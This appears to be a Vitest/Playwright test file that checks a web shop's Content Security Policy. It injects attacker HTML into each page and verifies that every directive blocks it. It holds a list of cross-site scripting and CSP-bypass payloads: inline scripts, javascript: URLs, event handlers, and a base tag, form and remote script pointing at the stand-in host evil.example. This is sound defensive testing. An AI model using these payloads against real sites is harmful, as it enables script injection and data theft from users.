import type { Browser, BrowserContext, Page } from "playwright";
import { afterAll, beforeAll, expect, inject, test } from "vitest";
import { openBrowser } from "@/test/harness/http-browser";
import { createMerchant, signInMerchant } from "@/test/harness/merchants";
import { launchChromium } from "@/test/harness/programs";
import { createStores } from "@/test/harness/stores";

const { origin, databaseUrl } = inject("app");
const [store] = await createStores(databaseUrl, 1, "csp");
if (!store) throw new Error("no store");
const { slug } = store;
const settings = [
  "data-requests",
  "request-types",
  "sign-in",
  "connections",
  "notifications",
  "delivery",
  "information",
  "team",
];
const secret = "x".repeat(43);
const forStrangers = [
  ...["/sign-in", "/forgot-password", `/set-password/${secret}`, `/invitation/${slug}/${secret}`],
  ...[`/first-run/${secret}`, `/email-change/${secret}`, `/s/${slug}/sign-in`],
];
const forOwners = [
  ...["/account", `/s/${slug}`, `/s/${slug}/nowhere`, `/s/${slug}/verify/${secret}`, `/s/${slug}/delivery/${secret}`],
  ...["requests", "customers", "exports", ...settings.map((name) => `settings/${name}`)].map(
    (name) => `/dashboard/${slug}/${name}`,
  ),
];
const pages = [...forStrangers, ...forOwners];

/** HTML that an attacker might inject: the name of the harm, and the directive that blocks it. */
const injections: [harm: string, directive: string, html: string][] = [
  ["inline", "script-src-elem", `<script>harm("inline")</script>`],
  ["empty-nonce", "script-src-elem", `<script nonce="">harm("empty-nonce")</script>`],
  ["guessed-nonce", "script-src-elem", `<script nonce="r4nd0m">harm("guessed-nonce")</script>`],
  ["module", "script-src-elem", `<script type="module">harm("module")</script>`],
  ["data", "script-src-elem", `<script src="data:text/javascript,harm('data')"></script>`],
  ["remote.js", "script-src-elem", `<script src="http://evil.example/remote.js"></script>`],
  ["handler", "script-src-attr", `<img src="data:," onerror="harm('handler')">`],
  ["svg", "script-src-attr", `<svg onload="harm('svg')"></svg>`],
  ["srcdoc", "script-src-elem", `<iframe srcdoc="<script>parent.harm('srcdoc')</script>"></iframe>`],
  ["frame-address", "script-src-elem", `<iframe src="javascript:void(parent.harm('frame-address'))"></iframe>`],
  ["address", "script-src-elem", `<a id="address" href="javascript:void(harm('address'))">click</a>`],
  ["frame", "frame-src", `<iframe src="http://evil.example/frame"></iframe>`],
  ["object", "object-src", `<object type="text/html" data="http://evil.example/object"></object>`],
  ["base", "base-uri", `<base href="http://evil.example/">`],
  ["style", "style-src-elem", `<style>#style { outline: 7px solid red }</style><p id="style">styled</p>`],
  ["remote.css", "style-src-elem", `<link rel="stylesheet" href="http://evil.example/remote.css">`],
  ["attribute", "style-src-attr", `<p id="attribute" style="outline: 7px solid red">styled</p>`],
  ["picture", "img-src", `<img src="http://evil.example/picture">`],
  ["form", "form-action", `<form id="form" action="http://evil.example/form" target="sink"></form>`],
];
const injected = `${injections.map(([, , html]) => html).join("\n")}<iframe name="sink"></iframe>`;
const directives = injections.map(([, directive]) => directive);

let browser: Browser;
let [stranger, owner]: (BrowserContext | undefined)[] = [];
/** Requests to another site. */
const left: string[] = [];

beforeAll(async () => {
  browser = await launchChromium();
  [stranger, owner] = [await openContext(), await openContext()];
  const merchant = openBrowser({ origin, address: "203.0.113.91" });
  await signInMerchant(
    merchant,
    await createMerchant(databaseUrl, { store, role: "owner", email: "csp@shop.example" }),
  );
  await owner.addCookies([...merchant.cookies].map(([name, value]) => ({ name, value, url: origin })));
});

afterAll(() => browser?.close());

test.each(pages)("%s violates no rule of its own policy", async (path) => {
  const page = await openPage(path);
  const noise: string[] = [];
  page.on("console", (message) => message.type() === "error" && noise.push(message.text()));
  page.on("pageerror", (error) => noise.push(error.message));
  const opened = await page.goto(origin + path, { waitUntil: "load" });
  expect(new URL(page.url()).pathname, "the page that was asked for").toBe(path);
  expect(opened?.headers()["content-security-policy"]).toMatch(/script-src 'self' 'nonce-[^']+' 'strict-dynamic';/);
  // React's scripts have run.
  await page.waitForFunction(() => Object.keys(document).some((key) => key.startsWith("_reactListening")));
  expect(await violations(page)).toEqual([]);
  expect(noise.filter((line) => !/status of 404/.test(line))).toEqual([]);
  await page.close();
});

test.each(pages)("%s blocks everything that injected HTML would do", async (path) => {
  const page = await openInjected(path);
  // One element may violate two rules, such as an object that is also a frame.
  const unbroken = async () => without(directives, await violations(page));
  await expect.poll(unbroken, { timeout: 10_000 }).toEqual([]);
  expect(await harms(page)).toEqual([]);
  await page.close();
});

test("without a policy the injected HTML does all of it", async () => {
  const page = await openInjected(`/s/${slug}`, "no policy");
  const names = injections.map(([harm]) => harm);
  await expect.poll(async () => without(names, await harms(page)), { timeout: 10_000 }).toEqual([]);
  expect(await violations(page)).toEqual([]);
  await page.close();
});

async function openContext(): Promise<BrowserContext> {
  const context = await browser.newContext({ extraHTTPHeaders: { "X-Forwarded-For": "203.0.113.90" } });
  await context.route(/evil\.example/, async (route) => {
    left.push(new URL(route.request().url()).pathname.slice(1));
    await route.abort();
  });
  await context.addInitScript(() => {
    const done: string[] = [];
    const broken: string[] = [];
    Object.assign(window, { broken, done, harm: (name: string) => done.push(name) });
    // A frame that holds the attacker's HTML is of this site: it tells the page.
    const told: string[] = window.top === window ? broken : Reflect.get(window.top ?? window, "broken");
    document.addEventListener("securitypolicyviolation", (event) => told.push(event.effectiveDirective));
  });
  return context;
}

async function openPage(path: string): Promise<Page> {
  const page = await (forStrangers.includes(path) ? stranger : owner)?.newPage();
  if (!page) throw new Error("no browser is open");
  return page;
}

/**
 * Opens a page with the attacker's HTML at the end of its body, under the policy that it was answered with, or
 * none. The page's own scripts do not come: they would take out again what they did not write.
 */
async function openInjected(path: string, policy?: "no policy"): Promise<Page> {
  left.length = 0;
  const page = await openPage(path);
  await page.route("**/_next/static/**/*.js", (route) => route.abort());
  await page.route(origin + path, async (route) => {
    const answer = await route.fetch();
    const { "content-security-policy": own = "", ...others } = answer.headers();
    const headers = { ...others, ...(!policy && { "content-security-policy": own }) };
    const body = (await answer.text()).replace("</body>", () => `${injected}</body>`);
    await route.fulfill({ response: answer, headers, body });
  });
  await page.goto(origin + path, { waitUntil: "domcontentloaded" });
  await page.evaluate(() => document.getElementById("address")?.click());
  await page.evaluate(() => document.querySelector<HTMLFormElement>("#form")?.submit());
  return page;
}

/** What of `all` is not in `some`, counting each as often as it comes. */
function without(all: string[], some: string[]): string[] {
  const left = [...some];
  return all.filter((one) => {
    const at = left.indexOf(one);
    if (at >= 0) left.splice(at, 1);
    return at < 0;
  });
}

/** The directives that a page has broken, in order. */
async function violations(page: Page): Promise<string[]> {
  return await page.evaluate(() => Reflect.get(window, "broken") as string[]);
}

/** The names of the harms that the attacker's HTML has done, sorted. */
async function harms(page: Page): Promise<string[]> {
  const found = await page.evaluate(() => {
    const outlined = ["style", "attribute"].filter((id) => {
      const element = document.getElementById(id);
      return element !== null && getComputedStyle(element).outlineWidth === "7px";
    });
    const base = document.baseURI.startsWith(location.origin) ? [] : ["base"];
    return [...(Reflect.get(window, "done") as string[]), ...outlined, ...base];
  });
  return [...new Set([...found, ...left])].sort();
}
